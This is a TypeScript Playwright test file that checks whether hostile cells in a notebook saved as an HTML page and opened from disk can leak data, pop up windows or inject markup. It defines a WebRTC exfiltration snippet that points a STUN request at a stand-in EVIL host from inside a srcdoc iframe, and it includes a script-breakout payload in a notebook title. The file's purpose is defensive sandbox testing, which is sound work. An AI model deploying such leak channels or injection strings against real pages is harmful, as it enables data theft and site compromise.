/**
 * Cells that mean harm, in a notebook that was saved as a page and is opened from the disk: no server stands behind it, and no header, so
 * that all depends on what the file says itself. The same attacks as on our own pages, and from the same list.
 */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeNotebook } from '../../notebooks/document/read-notebook.ts';
import { fillTemplate } from '../../web/notebook/export/make-html.ts';
import { pack, type SavedNotebook } from '../../web/notebook/export/saved-notebook.ts';
import { launchBrowser } from '../browser.ts';
import { isSample } from '../is-sample.ts';
import { attacks, onClick, type Attack } from './attacks.ts';
import { attackNotebook, gotOut, type Outcome } from './run-attacks.ts';
import { isUsable } from './usable.ts';

const assets = join(import.meta.dirname, '../../dist/web/assets');
const text = (word: string) => ({ sv: word, en: word });

/** What only a file could let out: on our own pages no script stands in the page. */
const ownFrame: Attack = {
  name: 'WebRTC from a frame with a script of its own',
  code: `const run = 'const one = new RTCPeerConnection({ iceServers: [{ urls: "stun:' + EVIL.slice(7) + '" }] }); one.createDataChannel("x"); one.createOffer().then((offer) => one.setLocalDescription(offer));';
    const box = document.createElement('iframe'); box.srcdoc = '<script>' + run + '</scr' + 'ipt>'; document.body.append(box);
    const it = document.createElement('script'); it.textContent = run; document.body.append(it); await new Promise((done) => setTimeout(done, 800))`,
};
/** All of them under MOTVIKT_TESTS=all; else one in four. */
const tried = isSample ? [ownFrame, ...attacks.filter((_, i) => i % 4 === 0)] : [ownFrame, ...attacks];

let browser: Browser;
let context: BrowserContext;
let folder: string;
let template: string;
let packed: string;
const befell: string[] = [];
beforeAll(async () => {
  [browser, folder] = await Promise.all([launchBrowser(), mkdtemp(join(tmpdir(), 'motvikt-saved-'))]);
  context = await browser.newContext({ locale: 'en', colorScheme: 'light', viewport: { width: 1000, height: 700 } });
  template = readFileSync(
    join(
      assets,
      readdirSync(assets).find((name) => /^saved-.*\.txt$/.test(name))!,
    ),
    'utf8',
  );
  packed = await pack(new TextEncoder().encode('{}').buffer);
}, 120_000);
afterAll(async () => {
  await browser?.close();
  if (folder) await rm(folder, { recursive: true, force: true });
});

let files = 0;
/** A page as a reader saves it, of these cells. @returns its name in the folder */
function save(cells: readonly string[], title = 'Saved'): string {
  const cellOf = (value: string, i: number) => ({ id: i + 1, mode: 'js' as const, value, pinned: false, hidden: false });
  const saved: SavedNotebook = {
    title: text(title),
    summary: text('Short'),
    place: 'North',
    revision: 1,
    savedAt: '2026-11-22T10:00:00.000Z',
    source: writeNotebook({ title, cells: cells.map(cellOf) }),
    surveys: [
      { instrument: 'open', title: text('Open'), origin: text('test'), synthetic: true, waves: [{ wave: '2024', label: text('2024') }] },
    ],
    waves: [{ survey: 'open', wave: '2024', released: packed, areas: packed }],
  };
  const name = `/${++files}.html`;
  writeFileSync(join(folder, name), fillTemplate(template, saved));
  return name;
}

function watch(page: Page, group: readonly Attack[]): () => Promise<void> {
  const tell = (what: string) => befell.push(`${what} (${group.map(({ name }) => name).join(', ')})`);
  page.on('popup', () => tell('a window'));
  page.on('download', () => tell('a download'));
  page.on('dialog', (dialog) => {
    tell(`a dialog: ${dialog.type()}`);
    void dialog.dismiss();
  });
  return async () => {
    if (!/\/\d+\.html$/.test(new URL(page.url()).pathname)) tell(`moved to ${page.url()}`);
    else if (!(await isUsable(page))) tell('not usable');
  };
}
const describeOutcome = ({ attack, said, requests, packets }: Outcome) => `${attack.name}: ${said} ${requests.join()} ${packets} packets`;

const attackSaved = (some: readonly Attack[], options = {}): Promise<readonly Outcome[]> =>
  attackNotebook(some, context, { address: pathToFileURL(folder).href, notebook: (cells) => save(cells) }, watch, options);

describe('a cell of a saved page', () => {
  it('gets nothing out and nothing into its hands, and leaves the page where it is', async () => {
    const outcomes = await attackSaved(tried);
    expect(outcomes.filter(gotOut).map(describeOutcome)).toEqual([]);
    const silent = outcomes.filter(({ attack, said }) => !attack.alone && !/^(ended|threw|waited)/.test(said));
    expect(silent.map(describeOutcome), 'each attack was heard to end').toEqual([]);
    expect(befell).toEqual([]);
  }, 300_000);

  it('gains nothing by a click of the reader', async () => {
    befell.length = 0;
    expect((await attackSaved(isSample ? onClick.slice(0, 2) : onClick, { onClick: true })).filter(gotOut).map(describeOutcome)).toEqual(
      [],
    );
    expect(befell).toEqual([]);
  }, 120_000);
});

describe('a saved page', () => {
  it('asks for nothing but itself, and shows words as words whatever they are', async () => {
    const page = await context.newPage();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const title = '</title></script><script>document.documentElement.id = "taken"</script><!-- <script>';
    const address = pathToFileURL(
      join(
        folder,
        save(["display(['<', '/script><!', '-- <', 'script>'].join(''))", '// tables: open/2024\ndisplay(surveys[0].title)'], title),
      ),
    ).href;
    await page.goto(address);
    await page.frameLocator('iframe').getByText('Open').waitFor();
    expect(await page.frameLocator('iframe').locator('body').innerText()).toContain('</script><!-- <script>');
    expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe(title);
    expect([await page.title(), await page.locator('html').getAttribute('id')]).toEqual([`${title} · North`, null]);
    expect(asked).toEqual([address]);
    await page.close();
  });
});
